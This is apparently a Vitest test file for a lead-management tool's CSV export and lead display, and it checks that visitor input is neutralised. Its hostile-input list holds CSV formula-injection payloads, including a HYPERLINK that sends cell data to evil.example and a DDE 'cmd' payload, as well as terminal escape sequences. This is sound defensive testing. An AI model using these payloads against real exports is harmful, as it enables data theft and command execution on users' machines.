import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { leadMailDictionaries } from "~/content/locales/lead-mail";
import { utmNames } from "~/lib/utm";
import { formulaStart, parseCsv, readerCells } from "~/test/csv";
import { hostileSamples, hostileString } from "~/test/visitor-input";
import { type LeadKind, leadFieldsOf, leadKinds } from "../../app/features/leads/lead-schema.ts";
import { fieldLabels } from "./mail.ts";
import {
  type CsvSeparator,
  csvSeparators,
  exportColumns,
  exportLeads,
  formFieldColumns,
  listLeads,
  mailKindNames,
  resend,
  showLead,
  spreadsheetText,
  suspectStatus,
  toCsv,
} from "./operator.ts";
import { type LeadRecord, type LeadStore, openLeadStore, storeLead } from "./store.ts";

/** Names and answers people (and robots) send, each a trap for a spreadsheet or a CSV writer. */
const hostile = [
  "Jean;=1+1;",
  "Jean,=1+1,",
  '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
  "@SUM(A1:A9)",
  "+237 699 00 00 00",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\uFF1D1+1",
  "\uFF20SUM(A1)",
  'Ngo "Biyong"',
  'a;"=1+1"',
  "Line 1\n=2+2\r\n@3\n- bullet",
  "Éloïse Ndongo, Soudure à 45° 🔥👩🏽‍🔧",
  "",
  "'already quoted",
  "a-b@example.org",
  "2099-06-15",
];

/**
 * Text to throw at the export: made of what breaks spreadsheets and CSV writers (formula characters,
 * separators, quotes, line breaks, full-width and non-breaking look-alikes), any Unicode text (emoji and
 * combined accents, lone surrogates too), or the hostile names above.
 */
const anyText = fc.oneof(
  fc.string({
    unit: fc.constantFrom(..."=+-@\t\r\n,;\"' \u00a0\uFF1D\uFF0B\uFF0D\uFF20aé", "😀", "👩🏽‍🔧", "e\u0301"),
  }),
  fc.string({ unit: "grapheme" }),
  fc.string({ unit: "binary" }),
  hostileString,
  fc.constantFrom(...hostile, ...hostileSamples),
);

describe("a cell that a spreadsheet could read as a formula", () => {
  it.each([
    ["Jean;=1+1;", "Jean;'=1+1;"],
    ['=HYPERLINK("https://evil.example","x")', `'=HYPERLINK("https://evil.example","x")`],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["+237 699 00 00 00", "'+237 699 00 00 00"],
    ["-2+3", "'-2+3"],
    ["\t=1", "'\t'=1"],
    ["\rx", "'\rx"],
    ["  =1", "'  =1"],
    ["\uFF1D1+1", "'\uFF1D1+1"],
    ['a;"=1"', `a;'"=1"`],
    ["Scope:\n- UT\n- MT", "Scope:\n'- UT\n'- MT"],
    ["Ngo Biyong", "Ngo Biyong"],
    ["a-b@example.org", "a-b@example.org"],
    ["+237 6-99", "'+237 6-99"],
    ["2099-06-15", "2099-06-15"],
    ["'=1", "'=1"],
  ])("%j is written %j", (text, safe) => {
    expect(spreadsheetText(text)).toBe(safe);
  });

  // Thousands of cases: a second or so alone, longer beside other work on a 2-core machine.
  it("is made inert only by apostrophes, once, and no reader can start a cell with a formula", {
    timeout: 30_000,
  }, () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const safe = spreadsheetText(text);
        return (
          safe.replaceAll("'", "") === text.replaceAll("'", "") &&
          spreadsheetText(safe) === safe &&
          !readerCells(safe).some((cell) => formulaStart.test(cell))
        );
      }),
      { numRuns: 2000 },
    );
  });
});

describe("the CSV export", () => {
  const columns = ["ref", "name", "phone", "details"];
  const rows: Record<string, string>[] = hostile.map((text, i) => ({
    ref: `WI-${i}`,
    name: text,
    phone: hostile[hostile.length - 1 - i] ?? "",
    details: text,
  }));

  for (const separator of csvSeparators) {
    it(`reads back cell by cell, hostile names and all, with "${separator}" (BOM, header, CRLF)`, () => {
      const csv = toCsv(rows, { columns, separator });
      const { bom, rows: parsed } = parseCsv(csv, separator);
      expect(bom).toBe(true);
      expect(parsed[0]).toEqual(columns);
      expect(parsed.slice(1)).toEqual(rows.map((row) => columns.map((c) => spreadsheetText(row[c] ?? ""))));
      // Whichever separator the reader guesses, no cell it finds starts a formula.
      for (const cell of readerCells(csv)) expect(cell).not.toMatch(formulaStart);
    });
  }

  it("splits a cell holding the other separator nowhere: Jean;=1+1; stays one cell in a comma file", () => {
    const csv = toCsv([{ name: "Jean;=1+1;" }], { separator: "," });
    expect(csv).toBe('\uFEFFname\r\n"Jean;\'=1+1;"\r\n');
    expect(toCsv([{ name: "Jean,=1+1," }], { separator: ";" })).toBe('\uFEFFname\r\n"Jean,\'=1+1,"\r\n');
  });

  it("writes a header even when there is no lead", () => {
    expect(toCsv([], { columns: ["ref", "name"] })).toBe("\uFEFFref,name\r\n");
  });

  // Thousands of cases: a second or so alone, longer beside other work on a 2-core machine.
  it("never lets random or hostile text out of its cell, with either separator", { timeout: 30_000 }, () => {
    const sheet = fc.array(fc.record({ a: anyText, b: anyText, c: anyText }), { maxLength: 6 });
    fc.assert(
      fc.property(sheet, fc.constantFrom<CsvSeparator>(...csvSeparators), (records, separator) => {
        const csv = toCsv(records, { columns: ["a", "b", "c"], separator });
        const { rows: parsed } = parseCsv(csv, separator);
        expect(parsed).toEqual([["a", "b", "c"], ...records.map((r) => [r.a, r.b, r.c].map(spreadsheetText))]);
        return !readerCells(csv).some((cell) => formulaStart.test(cell));
      }),
      { numRuns: 1000 },
    );
  });

  it("has one column per field of the three forms, each once, in the schemas' order", () => {
    for (const kind of leadKinds) for (const field of leadFieldsOf(kind)) expect(formFieldColumns).toContain(field);
    expect(new Set(formFieldColumns).size).toBe(formFieldColumns.length);
    expect(formFieldColumns.slice(0, 4)).toEqual(leadFieldsOf("inquiry").slice(0, 4));
    for (const column of ["ref", "created_at", "kind", "locale", "page", "referrer", ...utmNames, "mail_status"])
      expect(exportColumns).toContain(column);
  });
});

/** A value for each field of a form: every answer distinct, so a value in the wrong column shows. */
function answersOf(kind: LeadKind): Record<string, string> {
  const sample: Record<string, string> = {
    name: `=HYPERLINK("x") Ngo Biyong (${kind})`,
    email: `${kind}@example.org`,
    phone: "+237 699 00 00 00",
    company: "Douala Steel; & Co",
    service: kind === "consultation" ? "ndt" : "staff-outsourcing",
    preferredDate: "2099-06-15",
    preferredTime: "14:00",
    headcount: "2",
    startDate: "2099-07-01",
  };
  return Object.fromEntries(
    leadFieldsOf(kind).map((field) => [field, sample[field] ?? `${field} of ${kind}\n@line 2`]),
  );
}

/** A lead as the server stores it, from the answers to its form, received on the `day`-th of January 2027. */
function leadRecord(kind: LeadKind, fields: Record<string, string>, day: number): Omit<LeadRecord, "ref"> {
  return {
    idempotency_key: `key-${kind}-${day}`,
    kind,
    locale: kind === "quote" ? "en" : "fr",
    name: fields.name ?? "",
    email: fields.email ?? "",
    service: fields.service ?? "",
    fields: JSON.stringify(fields),
    page: `/${kind}`,
    referrer: "https://www.google.com/",
    utm: JSON.stringify({ utm_source: "linkedin", utm_campaign: `=spring ${kind}` }),
    created_at: new Date(Date.UTC(2027, 0, 1 + day)).toISOString(),
  };
}

describe("one lead read whole, and a suspect released (embedded database)", () => {
  let dir: string;
  let store: LeadStore;
  const refs = new Map<LeadKind, string>();
  let stored = 0;
  const nextRef = () => `WI-${"ABCDEFGHJK"[stored++]}2345`;

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), "operator-test-"));
    store = await openLeadStore({ databaseUrl: null, dataDir: dir }, { lock: false });
    for (const kind of leadKinds) {
      const { ref } = await storeLead(store, leadRecord(kind, answersOf(kind), refs.size), nextRef);
      refs.set(kind, ref);
    }
  });
  afterAll(async () => {
    await store?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it("--show prints every field of each form, labelled, its origin, and each of its mails' history by kind", async () => {
    for (const kind of leadKinds) {
      const ref = refs.get(kind) ?? "";
      const text = await showLead(store, ref, ["fr", "en"]);
      expect(text).toContain(`Référence / Reference: ${ref}`);
      expect(text).toContain(leadMailDictionaries.fr.kinds[kind]);
      for (const [field, value] of Object.entries(answersOf(kind))) {
        const label = [...new Set([fieldLabels("fr")[field], fieldLabels("en")[field]])].join(" / ");
        expect(fieldLabels("en")[field], `a label for ${field}`).toBeDefined();
        const shown = value.includes("\n") ? `${label}:\n    ${value.replace(/\n/g, "\n    ")}` : `${label}: ${value}`;
        expect(text, `${kind} ${field}`).toContain(shown);
      }
      expect(text).toContain(`/${kind}`);
      expect(text).toContain("https://www.google.com/");
      expect(text).toContain("utm_source: linkedin");
      expect(text).toContain(`utm_campaign: =spring ${kind}`);
      for (const kind of ["company", "acknowledgement"] as const) {
        expect(text).toMatch(
          new RegExp(
            `Mail: ${mailKindNames[kind]} \\(${kind}\\)\n {2}Status: pending\n {2}Queued at: \\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2} WAT`,
          ),
        );
      }
      expect(text.indexOf("(company)")).toBeLessThan(text.indexOf("(acknowledgement)"));
      expect(text).toContain("Attempts: 0");
    }
  });

  it("--show refuses a malformed reference and an unknown one", async () => {
    await expect(showLead(store, "WI-1234", ["en"])).rejects.toThrow(/not a lead reference/);
    await expect(showLead(store, "WI-22222", ["en"])).rejects.toThrow("No lead has the reference WI-22222.");
  });

  it("--show writes a control character as an escape, never to the terminal", async () => {
    const fields = { ...answersOf("inquiry"), name: "Eve\u009b31m\u001b[2J" };
    const { ref } = await storeLead(store, leadRecord("inquiry", fields, 9), nextRef);
    const text = await showLead(store, ref, ["en"]);
    expect(text).toContain("Name: Eve\\x9b31m\\x1b[2J");
    expect(text.includes("\u001b") || text.includes("\u009b")).toBe(false);
  });

  it("the export has every field of each lead in its own column", async () => {
    const rows = await exportLeads(store);
    const { rows: parsed } = parseCsv(toCsv(rows, { columns: exportColumns, separator: ";" }), ";");
    expect(parsed[0]).toEqual([...exportColumns]);
    for (const kind of leadKinds) {
      const line = parsed.find((cells) => cells[0] === refs.get(kind));
      expect(line, kind).toBeDefined();
      const cellOf = (column: string) => line?.[exportColumns.indexOf(column as never)];
      for (const [field, value] of Object.entries(answersOf(kind))) expect(cellOf(field)).toBe(spreadsheetText(value));
      expect(cellOf("kind")).toBe(kind);
      expect(cellOf("utm_source")).toBe("linkedin");
      expect(cellOf("utm_campaign")).toBe(`'=spring ${kind}`);
      expect(cellOf("mail_status")).toBe("pending");
      expect(cellOf("acknowledgement_status")).toBe("pending");
    }
  });

  it("--suspect lists a request kept as a robot's, and --resend releases it to the inbox, due now", async () => {
    const ref = refs.get("consultation") ?? "";
    await store.db
      .updateTable("outbox")
      .set({ status: suspectStatus, next_attempt_at: "9999-01-01T00:00:00.000Z" })
      .where("lead_ref", "=", ref)
      .execute();
    const listed = await listLeads(store, { status: suspectStatus });
    expect(listed.map((lead) => [lead.ref, lead.status, lead.acknowledgement])).toEqual([
      [ref, suspectStatus, suspectStatus],
    ]);
    const before = Date.now();
    expect(await resend(store, ref)).toBe(suspectStatus);
    const mails = await store.db.selectFrom("outbox").selectAll().where("lead_ref", "=", ref).execute();
    expect(mails).toHaveLength(2);
    for (const mail of mails) {
      expect(mail.status, mail.kind).toBe("pending");
      expect(Date.parse(mail.next_attempt_at)).toBeLessThanOrEqual(Date.now());
      expect(Date.parse(mail.next_attempt_at)).toBeGreaterThanOrEqual(before - 1000);
    }
    expect(await listLeads(store, { status: suspectStatus })).toEqual([]);
    await expect(resend(store, "WI-22222")).rejects.toThrow("No lead has the reference WI-22222.");
  });
});
